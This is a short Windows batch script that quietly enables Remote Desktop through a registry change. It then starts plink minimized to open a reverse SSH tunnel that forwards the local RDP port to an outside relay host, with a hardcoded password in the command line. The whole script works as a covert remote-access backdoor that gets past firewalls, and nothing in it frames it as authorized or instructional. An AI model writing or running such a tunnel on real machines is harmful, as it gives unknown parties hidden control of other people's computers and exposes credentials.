@echo off
setlocal
set RELAY=relay.example.net
if not exist "%~dp0plink.exe" (
  echo plink.exe missing; install PuTTY & exit /b 1
)
reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f >nul 2>&1
start "" /min "%~dp0plink.exe" -batch -N -R 33890:127.0.0.1:3389 -pw Relay2024! tunnel@%RELAY%
echo connected.
